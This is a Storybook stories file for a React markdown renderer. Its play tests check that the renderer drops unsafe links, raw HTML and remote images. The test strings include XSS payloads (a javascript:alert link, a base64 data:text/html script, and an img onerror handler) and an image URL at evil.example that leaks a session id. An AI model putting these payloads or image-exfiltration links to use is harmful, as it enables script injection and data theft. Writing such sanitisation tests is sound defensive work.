import type { Meta, StoryObj } from "@storybook/react-vite";
import { expect } from "storybook/test";
import { Markdown, preloadHighlighter } from "threadline/components";
import markUrl from "../assets/threadline-mark.svg?no-inline";

const structure = [
  "# Release plan",
  "",
  "Threadline ships **three** entries and one *stylesheet*; ~~four~~ was too many.",
  "",
  "## Steps",
  "",
  "1. Build the library",
  "2. Run the suites",
  "   - unit in Node",
  "   - stories in Chromium",
  "",
  "### Checklist",
  "",
  "- [x] Changelog written",
  "- [ ] Tag pushed",
  "",
  "| Entry | Size | Loads |",
  "| :--- | ---: | :---: |",
  "| `threadline` | 14 kB | always |",
  "| `threadline/components` | 22 kB | with React |",
  "",
  "> Pin the highlighter languages you expect, and the first paint is already coloured.",
].join("\n");

const code = [
  "Install it, then reduce a log:",
  "",
  "```bash",
  "npm install threadline",
  "```",
  "",
  "```ts",
  "const graph = reduceEvents(createGraph(), events);",
  "const nodes = projectThread(graph);",
  "```",
  "",
  "```json",
  '{ "type": "text", "id": "t1", "content": "Hi" }',
  "```",
  "",
  "Inline `code` stays inline.",
].join("\n");

const links = [
  "Read the [documentation](https://example.com/docs), write to",
  "<team@example.com>, or visit www.example.org.",
  "",
  "This [tempting link](javascript:alert(1)) and this <data:text/html;base64,PHNjcmlwdD4=>",
  "are shown as text: only http(s) and mailto links are allowed.",
  "",
  'Raw HTML is dropped: <img src=x onerror="alert(1)"><b>bold?</b>',
].join("\n");

const images = [
  "The model tried to show an image:",
  "",
  "![Revenue chart for Q3](https://evil.example/chart.png?leak=session-id)",
  "",
  "Remote images stay unloaded unless `allowImage` or `imageAllowList` allows them.",
].join("\n");

const streamingTail = [
  "Here is the fix:",
  "",
  "```ts",
  "export function flush(store: Store) {",
  "  store.notify(",
].join("\n");

const meta = {
  title: "Components/Markdown",
  component: Markdown,
  args: { text: structure },
  loaders: [
    async () => {
      await preloadHighlighter(["ts", "json", "bash"]);
      return {};
    },
  ],
} satisfies Meta<typeof Markdown>;

export default meta;
type Story = StoryObj<typeof meta>;

export const Structure: Story = {};

export const CodeBlocks: Story = {
  args: { text: code },
};

export const Links: Story = {
  args: { text: links },
  play: async ({ canvas, canvasElement }) => {
    await expect(canvas.getByRole("link", { name: "documentation" })).toHaveAttribute(
      "rel",
      "noopener noreferrer",
    );
    await expect(canvas.queryByRole("link", { name: "tempting link" })).toBeNull();
    await expect(canvasElement.querySelector("img, b")).toBeNull();
  },
};

export const BlockedImage: Story = {
  args: { text: images },
  play: async ({ canvas, canvasElement }) => {
    await expect(canvas.getByText("Image not loaded: Revenue chart for Q3")).toBeVisible();
    await expect(canvasElement.querySelector("img")).toBeNull();
  },
};

/** The app trusts its own assets: `allowImage` lets exactly those load. */
const allowOwnAssets = (url: string) => url === markUrl;

export const AllowedImage: Story = {
  args: {
    text: `The mark we ship:\n\n![Threadline mark](${markUrl})\n\nAnd one from elsewhere:\n\n![Tracking pixel](https://tracker.example/p.gif)`,
    allowImage: allowOwnAssets,
  },
  play: async ({ canvas, canvasElement }) => {
    const image = await canvas.findByRole("img", { name: "Threadline mark" });
    await expect(image).toHaveAttribute("src", markUrl);
    await expect(canvasElement.querySelectorAll("img")).toHaveLength(1);
    await expect(canvas.getByText("Image not loaded: Tracking pixel")).toBeVisible();
    await new Promise<void>((resolve) => {
      if ((image as HTMLImageElement).complete) resolve();
      else image.addEventListener("load", () => resolve(), { once: true });
    });
  },
};

const token = Array.from({ length: 90 }, (_, index) => "QmFzZTY0".at(index % 8))
  .join("")
  .repeat(7);

/**
 * A pasted token of 630 characters and no spaces wraps like the rest of the paragraph:
 * words of 200 characters or more get a break opportunity every 8 characters, so laying
 * out even a 200 000-character line takes milliseconds. Copying gives the token back whole.
 */
export const LongWord: Story = {
  args: {
    text: `Here is the key you asked for: ${token} — keep it safe, and \`${token.slice(0, 240)}\` too.`,
  },
  play: async ({ canvasElement }) => {
    const paragraph = canvasElement.querySelector("p");
    await expect(paragraph?.querySelectorAll("wbr").length).toBeGreaterThan(100);
    await expect(paragraph?.textContent).toContain(token);
  },
};

export const StreamingOpenFence: Story = {
  args: { text: streamingTail, streaming: true },
};

export const Dark: Story = {
  args: { text: code },
  globals: { theme: "dark" },
};

const panel = {
  display: "grid",
  gap: 12,
  width: 330,
  padding: 16,
  background: "var(--tl-color-background)",
  color: "var(--tl-color-text)",
  border: "1px solid var(--tl-color-border)",
  borderRadius: 8,
} as const;

export const AllStates: Story = {
  render: () => (
    <div style={{ display: "flex", flexWrap: "wrap", alignItems: "start", gap: 16 }}>
      {(["light", "dark"] as const).map((theme) => (
        <div key={theme} data-theme={theme} style={panel}>
          <Markdown text={"### Checklist\n\n- [x] **Parse** events\n- [ ] Render `threads`"} />
          <Markdown text="[Docs](https://example.com/docs) and a [blocked link](javascript:alert(1))." />
          <Markdown text="![Revenue chart](https://evil.example/chart.png)" />
          <Markdown text={"```ts\nconst graph = createGraph();\nreduceEvents(graph,"} streaming />
        </div>
      ))}
    </div>
  ),
};
